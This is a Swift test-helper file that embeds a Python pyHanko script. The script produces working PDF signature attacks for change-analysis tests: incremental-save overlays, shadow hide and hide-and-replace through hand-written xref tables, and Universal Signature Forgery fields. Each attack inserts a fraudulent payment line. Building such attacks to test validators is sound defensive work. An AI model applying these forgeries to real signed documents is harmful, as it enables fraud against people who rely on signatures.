import CertificateProvidersTesting
import Foundation

/// Attacks on signed PDFs after signing (the "PDF Insecurity" classes: incremental saving,
/// shadow hide / hide-and-replace), made with pyHanko's `IncrementalPdfFileWriter` or raw byte
/// edits (hand-written cross-reference tables and streams), for the change-analysis tests of
/// PDFSigningTests and the CLI.
public enum PDFAttacks {
    /// The attack modes of ``apply(_:to:writingTo:)``.
    public enum Mode: Sendable, CustomStringConvertible {
        /// A new catalog (own page tree, page and content; the same form) in the trailer's `/Root`.
        case newRoot
        /// A FreeText, Stamp or Square annotation painting over the first page.
        case annotation(String)
        /// `/Contents [n 0 R]` (an indirect array) grows by a new content stream.
        case growContents
        /// The first page's content stream replaced; its dictionary gets `key value`
        /// (`/Type /Metadata`, `/Subtype /Form`).
        case disguise(key: String, value: String)
        /// Shadow hide: an xref-only update frees the first page's content stream.
        case freeContents
        /// Shadow hide-and-replace: an xref and trailer only update naming catalog `number`.
        case root(Int)
        /// Shadow hide-and-replace: an xref-only update points object `number` at `offset`.
        case repoint(number: Int, offset: Int)
        /// A replaced content stream in an update whose `startxref` has no `%%EOF` after it.
        case noEndOfFile
        /// A replaced content stream appended after the `%%EOF` with no cross-reference section.
        case noCrossReference
        /// A complete new cross-reference table without `/Prev` (the signed revision cut off).
        case noPrevious
        /// A replaced content stream in an update whose `/Prev` names its own section.
        case previousLoop
        /// Universal Signature Forgery: a new signature field whose value lacks `/ByteRange`
        /// (`no-byterange`), has `[0 0 0 0]` (`zero-byterange`) or lacks `/Contents` (`no-contents`).
        case forgedSignature(String)
        /// Before signing: the first page's `/Contents` becomes an indirect array.
        case prepareContentsArray
        /// Before signing: an outline of `count` items whose last `/Next` loops back to the first.
        case prepareOutlines(count: Int)
        /// The `/Title` of outline item `index` (counted along `/Next`) changes.
        case retitleOutline(index: Int)
        /// Before signing: an empty signature field `Sig1` and a second, unreferenced catalog;
        /// prints its object number.
        case prepareHiddenCatalog
        /// Before signing: a second body of the first page's content stream that no xref lists;
        /// prints its offset.
        case prepareShadow

        /// The mode as the script's first argument.
        public var description: String {
            switch self {
            case .newRoot: return "new-root"
            case .annotation(let subtype): return "annotation:\(subtype)"
            case .growContents: return "grow-contents"
            case .disguise(let key, let value): return "disguise:\(key):\(value)"
            case .freeContents: return "free-contents"
            case .root(let number): return "root:\(number)"
            case .repoint(let number, let offset): return "repoint:\(number):\(offset)"
            case .noEndOfFile: return "no-eof"
            case .noCrossReference: return "no-xref"
            case .noPrevious: return "no-prev"
            case .previousLoop: return "prev-loop"
            case .forgedSignature(let variant): return "usf:\(variant)"
            case .prepareContentsArray: return "prepare-contents-array"
            case .prepareOutlines(let count): return "prepare-outlines:\(count)"
            case .retitleOutline(let index): return "retitle-outline:\(index)"
            case .prepareHiddenCatalog: return "prepare-hidden-catalog"
            case .prepareShadow: return "prepare-shadow"
            }
        }
    }

    /// The text the attacks paint (and a test finds in the changed page).
    public static let evilText = "PAY 1000000 EUR TO MALLORY"

    /// Applies `mode` to the PDF at `input`, writing `output`; returns what the script printed
    /// (an object number or offset for the preparing modes).
    /// - Throws: when the script fails.
    @discardableResult
    public static func apply(_ mode: Mode, to input: String, writingTo output: String) throws -> String {
        let result = try ExternalTool.run("python3", ["-c", script, mode.description, input, output])
        guard result.status == 0 else {
            throw ExternalToolFailure(message: "attack \(mode): \(result.errorOutput)")
        }
        return result.output.trimmingCharacters(in: .whitespacesAndNewlines)
    }

    /// The object number of the first page's (first) content stream.
    public static func firstContentsObject(_ path: String) throws -> Int {
        let code =
            script.components(separatedBy: "def main")[0]
            + "print(object_of_first_page_contents(open(sys.argv[1], 'rb').read()))\n"
        let result = try ExternalTool.run("python3", ["-c", code, path])
        guard result.status == 0, let number = Int(result.output.trimmingCharacters(in: .whitespacesAndNewlines))
        else { throw ExternalToolFailure(message: "contents object: \(result.errorOutput)") }
        return number
    }

    /// A failed attack script.
    public struct ExternalToolFailure: Error, CustomStringConvertible {
        /// What failed.
        public let message: String
        /// The message.
        public var description: String { message }
    }

    static let script = #"""
        import re, sys, zlib
        from io import BytesIO
        from pyhanko.pdf_utils import generic
        from pyhanko.pdf_utils.generic import pdf_name, NameObject, NumberObject, ArrayObject, DictionaryObject, StreamObject
        from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
        from pyhanko.pdf_utils.reader import PdfFileReader

        EVIL = b'BT /F1 24 Tf 72 680 Td (PAY 1000000 EUR TO MALLORY) Tj ET'

        def evil_stream(extra=None):
            d = {pdf_name('/Length'): NumberObject(len(EVIL))}
            d.update(extra or {})
            return StreamObject(d, stream_data=EVIL)

        def first_page(writer):
            return writer.find_page_for_modification(0)

        def new_root(writer):
            page_ref = first_page(writer)[0]
            page = page_ref.get_object()
            content = writer.add_object(evil_stream())
            pages = writer.add_object(DictionaryObject({pdf_name('/Type'): pdf_name('/Pages'),
                pdf_name('/Count'): NumberObject(1)}))
            new_page = writer.add_object(DictionaryObject({pdf_name('/Type'): pdf_name('/Page'),
                pdf_name('/Parent'): pages, pdf_name('/MediaBox'): page['/MediaBox'],
                pdf_name('/Resources'): page.raw_get('/Resources'), pdf_name('/Contents'): content}))
            pages.get_object()[pdf_name('/Kids')] = ArrayObject([new_page])
            # The new catalog keeps every other entry (the form with its signature fields included).
            entries = {pdf_name(k): writer.root.raw_get(k) for k in writer.root if k != '/Pages'}
            entries[pdf_name('/Pages')] = pages
            catalog = writer.add_object(DictionaryObject(entries))
            writer._root = catalog

        def annotation(writer, subtype):
            page_ref = first_page(writer)[0]
            page = page_ref.get_object()
            box = b'1 1 1 rg 0 0 400 40 re f BT /F1 20 Tf 4 12 Td 0 g (PAY 1000000 EUR) Tj ET'
            ap = writer.add_object(StreamObject({pdf_name('/Type'): pdf_name('/XObject'), pdf_name('/Subtype'): pdf_name('/Form'),
                pdf_name('/BBox'): ArrayObject([NumberObject(0)] * 2 + [NumberObject(400), NumberObject(40)]),
                pdf_name('/Resources'): page.raw_get('/Resources')}, stream_data=box))
            annot = DictionaryObject({pdf_name('/Type'): pdf_name('/Annot'), pdf_name('/Subtype'): pdf_name('/' + subtype),
                pdf_name('/Rect'): ArrayObject([NumberObject(72), NumberObject(710), NumberObject(472), NumberObject(750)]),
                pdf_name('/AP'): DictionaryObject({pdf_name('/N'): ap}), pdf_name('/P'): page_ref,
                pdf_name('/Contents'): generic.TextStringObject('PAY 1000000 EUR')})
            if subtype == 'FreeText':
                annot[pdf_name('/DA')] = generic.TextStringObject('/F1 20 Tf 0 g')
            ref = writer.add_object(annot)
            annots = page.get('/Annots')
            if isinstance(page.raw_get('/Annots') if '/Annots' in page else None, generic.IndirectObject):
                annots.append(ref)
                writer.mark_update(page.raw_get('/Annots'))
            else:
                page[pdf_name('/Annots')] = ArrayObject(list(annots or []) + [ref])
                writer.update_container(page)

        def grow_contents(writer):
            page = first_page(writer)[0].get_object()
            array_ref = page.raw_get('/Contents')
            assert isinstance(array_ref, generic.IndirectObject), 'the page must have an indirect /Contents array'
            array = array_ref.get_object()
            array.append(writer.add_object(evil_stream()))
            writer.mark_update(array_ref)

        def disguise(writer, key, value):
            page = first_page(writer)[0].get_object()
            contents = page.raw_get('/Contents')
            stream = contents.get_object()
            if isinstance(stream, ArrayObject):
                contents = stream.raw_get(0)
                stream = contents.get_object()
            stream[pdf_name(key)] = pdf_name(value)
            if key == '/Subtype' and value == '/Form':
                stream[pdf_name('/BBox')] = ArrayObject([NumberObject(0), NumberObject(0), NumberObject(595), NumberObject(842)])
            stream._data = EVIL
            stream._encoded_data = None
            writer.mark_update(contents)

        def prepare_outlines(writer, count):
            # Before signing: an outline of `count` items whose last /Next loops back to the first.
            outline = writer.add_object(DictionaryObject({pdf_name('/Type'): pdf_name('/Outlines')}))
            items = [writer.add_object(DictionaryObject({pdf_name('/Title'): generic.TextStringObject('Item %d' % i),
                                                         pdf_name('/Parent'): outline})) for i in range(count)]
            for i, item in enumerate(items):
                item.get_object()[pdf_name('/Next')] = items[(i + 1) % count]
            outline.get_object()[pdf_name('/First')] = items[0]
            outline.get_object()[pdf_name('/Last')] = items[-1]
            outline.get_object()[pdf_name('/Count')] = NumberObject(count)
            writer.root[pdf_name('/Outlines')] = outline
            writer.update_root()

        def retitle_outline(writer, index):
            ref = writer.root['/Outlines'].raw_get('/First')
            for _ in range(index):
                ref = ref.get_object().raw_get('/Next')
            ref.get_object()[pdf_name('/Title')] = generic.TextStringObject('PAY 1000000 EUR')
            writer.mark_update(ref)

        def add_to_form_and_page(writer, field, page_ref, annots):
            # Lists `field` in the form (made if missing) and `annots` on the page, marking what changed.
            if '/AcroForm' not in writer.root:
                writer.root[pdf_name('/AcroForm')] = DictionaryObject({pdf_name('/Fields'): ArrayObject([]),
                                                                       pdf_name('/SigFlags'): NumberObject(3)})
                writer.update_root()
            form = writer.root['/AcroForm']
            fields_ref = form.raw_get('/Fields')
            form['/Fields'].append(field)
            if isinstance(fields_ref, generic.IndirectObject):
                writer.mark_update(fields_ref)
            elif isinstance(writer.root.raw_get('/AcroForm'), generic.IndirectObject):
                writer.mark_update(writer.root.raw_get('/AcroForm'))
            else:
                writer.update_root()
            page = page_ref.get_object()
            annots_ref = page.raw_get('/Annots') if '/Annots' in page else None
            if isinstance(annots_ref, generic.IndirectObject):
                annots_ref.get_object().extend(annots)
                writer.mark_update(annots_ref)
            else:
                page[pdf_name('/Annots')] = ArrayObject(list(page.get('/Annots') or []) + annots)
                writer.update_container(page)

        def forged_signature(writer, variant):
            # USF: a new signature field whose value has no /ByteRange, a [0 0 0 0] one, or no /Contents.
            page_ref = first_page(writer)[0]
            value = DictionaryObject({pdf_name('/Type'): pdf_name('/Sig'), pdf_name('/Filter'): pdf_name('/Adobe.PPKLite'),
                                      pdf_name('/SubFilter'): pdf_name('/adbe.pkcs7.detached')})
            if variant != 'no-contents':
                value[pdf_name('/Contents')] = generic.ByteStringObject(b'\x00' * 64)
            if variant == 'zero-byterange':
                value[pdf_name('/ByteRange')] = ArrayObject([NumberObject(0)] * 4)
            elif variant == 'no-contents':
                value[pdf_name('/ByteRange')] = ArrayObject([NumberObject(0), NumberObject(10), NumberObject(20),
                                                             NumberObject(30)])
            field = writer.add_object(DictionaryObject({
                pdf_name('/FT'): pdf_name('/Sig'), pdf_name('/T'): generic.TextStringObject('Forged'),
                pdf_name('/V'): writer.add_object(value), pdf_name('/Type'): pdf_name('/Annot'),
                pdf_name('/Subtype'): pdf_name('/Widget'), pdf_name('/P'): page_ref,
                pdf_name('/Rect'): ArrayObject([NumberObject(0)] * 4)}))
            add_to_form_and_page(writer, field, page_ref, [field])

        def prepare_contents_array(writer):
            # Before signing: the first page's /Contents becomes an indirect array [stream].
            page_ref = first_page(writer)[0]
            page = page_ref.get_object()
            array = writer.add_object(ArrayObject([page.raw_get('/Contents')]))
            page[pdf_name('/Contents')] = array
            writer.update_container(page)

        def prepare_hidden_catalog(writer):
            # Before signing: an empty signature field Sig1, and a second catalog (the same form, its own
            # page tree, page and evil content) that nothing refers to.
            from pyhanko.sign import fields
            fields.append_signature_field(writer, fields.SigFieldSpec('Sig1'))
            real = writer._root
            new_root(writer)
            hidden = writer._root
            writer._root = real
            return hidden

        # Raw incremental updates: objects as bytes, freed objects, a trailer /Root, with or without %%EOF,
        # written as a classic table or an xref stream like the file's last section.
        def raw_update(data, objects=None, freed=(), root=None, eof=True, prev=True, xref_kind=None, repoint=None):
            objects = objects or {}
            reader = PdfFileReader(BytesIO(data))
            size = int(reader.trailer['/Size'])
            root = root or '%d %d R' % (reader.root_ref.idnum, reader.root_ref.generation)
            info = reader.trailer.raw_get('/Info') if '/Info' in reader.trailer else None
            last = int(re.findall(rb'startxref\s+(\d+)', data)[-1])
            classic = data[last:last + 4] == b'xref' if xref_kind is None else xref_kind == 'classic'
            out = bytearray(data)
            if not out.endswith(b'\n'):
                out += b'\n'
            entries = {}
            for number, body in objects.items():
                entries[number] = (1, len(out), 0)
                out += b'%d 0 obj\n' % number + body + b'\nendobj\n'
            for number in freed:
                entries[number] = (0, 0, 1)
            for number, offset in (repoint or {}).items():
                entries[number] = (1, offset, 0)
            new_size = max([size] + [n + 1 for n in entries])
            trailer = b'/Root ' + root.encode()
            if info is not None:
                trailer += b' /Info %d %d R' % (info.idnum, info.generation)
            if prev:
                trailer += b' /Prev %d' % (len(out) if prev == 'self' else last)
            if classic:
                start = len(out)
                out += b'xref\n0 1\n0000000000 65535 f\r\n'
                for number in sorted(entries):
                    kind, offset, generation = entries[number]
                    out += b'%d 1\n%010d %05d %s\r\n' % (number, offset, generation, b'n' if kind else b'f')
                out += b'trailer\n<< /Size %d %s >>\n' % (new_size, trailer)
            else:
                number = new_size
                start = len(out)
                entries[number] = (1, start, 0)
                rows = b''.join(bytes([entries[n][0]]) + entries[n][1].to_bytes(4, 'big') + entries[n][2].to_bytes(2, 'big')
                                for n in sorted(entries))
                index = b' '.join(b'%d 1' % n for n in sorted(entries))
                out += (b'%d 0 obj\n<< /Type /XRef /Size %d %s /W [1 4 2] /Index [%s] /Length %d >>\nstream\n'
                        % (number, number + 1, trailer, index, len(rows))) + rows + b'\nendstream\nendobj\n'
            out += b'startxref\n%d\n' % start
            if eof:
                out += b'%%EOF\n'
            return bytes(out)

        def object_of_first_page_contents(data):
            reader = PdfFileReader(BytesIO(data))
            page = reader.root['/Pages']['/Kids'][0].get_object()
            contents = page.raw_get('/Contents')
            if isinstance(contents.get_object(), ArrayObject):
                contents = contents.get_object().raw_get(0)
            return contents.idnum

        def main():
            mode, source, target = sys.argv[1], sys.argv[2], sys.argv[3]
            data = open(source, 'rb').read()
            raw = None
            if mode == 'free-contents':        # shadow hide: an xref-only update frees the page content
                raw = raw_update(data, freed=[object_of_first_page_contents(data)])
            elif mode == 'prepare-shadow':       # before signing: a second body for the page content, unlisted
                number = object_of_first_page_contents(data)
                body = b'%d 0 obj\n<< /Length %d >>\nstream\n' % (number, len(EVIL)) + EVIL + b'\nendstream\nendobj\n'
                raw = raw_update(data + b'\n' + body, objects={})
                print(len(data) + 1)
            elif mode.startswith('repoint:'):     # shadow hide-and-replace: the xref re-points an object
                _, number, offset = mode.split(':')
                raw = raw_update(data, objects={}, repoint={int(number): int(offset)})
            elif mode.startswith('root:'):     # shadow hide-and-replace: the trailer names a hidden catalog
                raw = raw_update(data, root=mode[5:] + ' 0 R')
            elif mode == 'no-eof':             # an ordinary ISA (new content stream) without a final %%EOF
                number = object_of_first_page_contents(data)
                raw = raw_update(data, objects={number: b'<< /Length %d >>\nstream\n' % len(EVIL) + EVIL + b'\nendstream'},
                                 eof=False)
            elif mode == 'no-xref':            # objects appended after the %%EOF with no cross-reference
                number = object_of_first_page_contents(data)
                raw = data + b'%d 0 obj\n<< /Length %d >>\nstream\n' % (number, len(EVIL)) + EVIL + b'\nendstream\nendobj\n'
            elif mode == 'prev-loop':          # an update whose /Prev names itself
                number = object_of_first_page_contents(data)
                raw = raw_update(data, objects={number: b'<< /Length %d >>\nstream\n' % len(EVIL) + EVIL + b'\nendstream'},
                                 prev='self')
            elif mode == 'no-prev':            # a complete new table without /Prev: the signed revision is cut off
                number = object_of_first_page_contents(data)
                reader = PdfFileReader(BytesIO(data))
                objects = {}
                for n in range(1, int(reader.trailer['/Size'])):
                    try:
                        obj = reader.get_object(generic.Reference(n, 0))
                    except Exception:
                        continue
                    if isinstance(obj, StreamObject) or obj is None:
                        continue
                    buffer = BytesIO()
                    obj.write_to_stream(buffer)
                    objects[n] = buffer.getvalue()
                objects[number] = b'<< /Length %d >>\nstream\n' % len(EVIL) + EVIL + b'\nendstream'
                raw = raw_update(data, objects=objects, prev=False, xref_kind='classic')
            if raw is not None:
                open(target, 'wb').write(raw)
                return
            with open(source, 'rb') as f, open(target, 'wb') as out:
                writer = IncrementalPdfFileWriter(f)
                if mode == 'new-root':
                    new_root(writer)
                elif mode.startswith('annotation:'):
                    annotation(writer, mode.split(':')[1])
                elif mode == 'grow-contents':
                    grow_contents(writer)
                elif mode.startswith('disguise:'):
                    _, key, value = mode.split(':')
                    disguise(writer, key, value)
                elif mode.startswith('usf:'):
                    forged_signature(writer, mode[4:])
                elif mode.startswith('prepare-outlines:'):
                    prepare_outlines(writer, int(mode.split(':')[1]))
                elif mode.startswith('retitle-outline:'):
                    retitle_outline(writer, int(mode.split(':')[1]))
                elif mode == 'prepare-contents-array':
                    prepare_contents_array(writer)
                elif mode == 'prepare-hidden-catalog':
                    hidden = prepare_hidden_catalog(writer)
                    print(hidden.idnum)
                else:
                    raise SystemExit('unknown mode ' + mode)
                writer.write(out)

        main()
        """#
}
